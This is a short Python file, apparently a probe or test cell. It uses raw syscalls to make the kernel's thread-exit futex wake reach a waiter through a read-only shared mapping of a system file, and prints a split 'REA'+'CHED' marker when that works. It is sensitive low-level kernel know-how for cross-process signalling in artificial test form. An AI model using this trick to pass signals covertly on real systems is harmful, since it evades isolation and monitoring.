"""Lets the kernel ring when a thread ends, in a page that others map too; success: it rings."""

CELLS = {
    "demo": """
import ctypes, mmap, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + 3 * [ctypes.c_int] + [ctypes.c_long]
handle = os.open(os.__file__, os.O_RDONLY)
here, there = (libc.mmap(None, 4096, 1, mmap.MAP_SHARED, handle, 0) for _ in range(2))
word = ctypes.c_uint32.from_address(here).value
class Span(ctypes.Structure):
    _fields_ = [("seconds", ctypes.c_long), ("rest", ctypes.c_long)]
def ring():
    libc.syscall(218, ctypes.c_void_p(there))  # set_tid_address
    time.sleep(0.3)
threading.Thread(target=ring).start()
call = (202, ctypes.c_void_p(here), 0, ctypes.c_uint32(word), ctypes.byref(Span(1, 0)))
if libc.syscall(*call) == 0:
    print("REA" + "CHED")
"""
}
